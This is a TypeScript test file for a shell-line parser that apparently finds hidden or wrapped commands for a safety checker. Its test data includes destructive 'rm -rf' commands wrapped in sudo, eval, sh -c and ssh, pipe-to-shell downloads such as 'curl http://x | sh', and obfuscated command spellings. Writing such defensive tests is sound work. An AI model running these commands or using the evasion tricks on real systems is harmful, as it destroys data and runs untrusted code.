import { beforeAll, describe, expect, test } from 'vitest'
import { literalOf, loadShellReader, type ReadShell, type ShellCommand, type ShellWord } from './shell.ts'

let read: ReadShell
beforeAll(async () => {
  read = await loadShellReader()
})

const show = (word: ShellWord): string => (word.kind === 'literal' ? word.text : `${word.prefix}…`)
const toText = ({ words }: ShellCommand): string => words.map(show).join(' ')
const written = (line: string): readonly string[] =>
  read
    .line(line)
    .commands.filter(({ reach }) => reach === 'written')
    .map(toText)
const all = (line: string): readonly string[] => read.line(line).commands.map(toText)

describe('the commands of a line', () => {
  test.each([
    ['of lists, pipes and groups', 'a; b && c || d | e & { f; }', ['a', 'b', 'c', 'd', 'e', 'f']],
    ['of subshells and substitutions', '(a); b $(c "$(d)") `e` <(f)', ['a', 'b … … …', 'c …', 'd', 'e', 'f']],
    [
      'of conditions, loops, cases and functions',
      'if a; then b; fi; for i in 1; do c; done; while d; do e; done; case x in y) f;; esac; g() { h; }',
      ['a', 'b', 'c', 'd', 'e', 'f', 'h'],
    ],
    ['in texts that are expanded', 'echo "x $(a) y" <<E\n$(b)\nE\n', ['echo x …', 'a', 'b']],
    ['in assignments and arithmetic', 'X=$(a) b; echo $((1 + $(c)))', ['b', 'a', 'echo …', 'c']],
    ['over lines that go on', 'rm \\\n -rf x\nls', ['rm -rf x', 'ls']],
  ])('are found %s', (_where, line, expected) => {
    expect(written(line)).toEqual(expected)
  })

  test.each([
    [`r''m -r"f" 'a b'`, 'rm -rf a b'],
    ['\\rm x\\ y', 'rm x y'],
    ['"r\\m" x', 'r\\m x'],
    ['rm $X "$Y"z pre$Z a*b {a,b} {} ~/x', 'rm … … pre… a… … {} ~/x'],
    [`$'\\x72m' x`, '… x'],
    [`$'rm' x`, 'rm x'],
  ])('have the words that the command gets: %s', (line, expected) => {
    expect(written(line)).toEqual([expected])
  })

  test('carry their assignments and redirections', () => {
    const [command] = read.line('A=1 B=$X cmd < in.txt >> out.txt 2>&1').commands
    expect(command?.assignments.map(({ name, value }) => [name, literalOf(value)])).toEqual([
      ['A', '1'],
      ['B', undefined],
    ])
    expect(command?.redirections.map(({ operator, target }) => `${operator}${show(target)}`)).toEqual([
      ...['<in.txt', '>>out.txt', '>&1'],
    ])
    expect(read.line('> x').commands[0]).toMatchObject({ words: [], redirections: [{ operator: '>' }] })
    expect(read.line('{ a; } > x').commands.map(each => each.redirections.length)).toEqual([1, 0])
  })

  test.each([
    ['cd a && b', ['', 'a']],
    ['cd a; cd ../c; b', ['', 'a', 'c']],
    ['(cd a; b); c', ['', 'a', '']],
    ['cd a || b', ['', undefined]],
    ['cd $X; b', ['', undefined]],
    ['if a; then cd x; fi; b', ['', '', undefined]],
    ['cd /; b', ['', '/']],
    ['cd ~; b', ['', undefined]],
  ])('know their folder as far as it can be known: %s', (line, expected) => {
    expect(read.line(line).commands.map(({ folder }) => folder)).toEqual(expected)
  })
})

describe('commands that run others', () => {
  test.each([
    'sudo -u root rm -rf x',
    'env A=1 rm -rf x',
    'env -S "rm -rf x"',
    'nohup timeout 5 nice -n 3 rm -rf x',
    'find . -name y | xargs -n1 rm -rf x',
    `sh -c 'rm -rf x'`,
    `bash -lc "cd y && rm -rf x"`,
    `sudo bash -c 'echo "$(rm -rf x)"'`,
    `xargs sh -c 'rm -rf x' _`,
    'eval rm -rf x',
    `eval "rm" '-rf x'`,
    `trap 'rm -rf x' EXIT`,
    'find . -exec rm -rf x \\;',
    `ssh host 'rm -rf x'`,
    'bash <<< "rm -rf x"',
    'command rm -rf x',
    'busybox rm -rf x',
  ])('%s', line => {
    expect(all(line)).toContain('rm -rf x')
    expect(read.line(line).commands.find(each => toText(each) === 'rm -rf x')?.reach).toBe('wrapped')
  })
})

describe('what cannot be read', () => {
  test.each([
    'if true; then',
    'echo "abc',
    'a )',
    '('.repeat(5_000),
    '$('.repeat(3_000),
    '$CMD -rf x',
    '"$(cat cmd)" x',
    'curl http://x | sh',
    'bash <(curl http://x)',
    `bash -c "$CODE"`,
    'eval "$CODE"',
    'sudo $CMD',
    'a\0b',
    'r\u200bm -rf x',
    `echo ${'x'.repeat(20_000)}`,
    'sudo '.repeat(40),
    'eval '.repeat(40),
  ])('is said: %s', line => {
    expect(read.line(line).unread).not.toEqual([])
  })

  test.each([
    'ls -la',
    'git status | head -n 5',
    'npm test -- --run x',
    'bash scripts/build.sh --fast',
    `grep -n "it's" *.md`,
    'for f in *.ts; do wc -l "$f"; done',
    `echo 'Grüße 😀'`,
    'sh --version',
    '',
  ])('is not said of ordinary lines: %s', line => {
    expect(read.line(line).unread).toEqual([])
  })
})
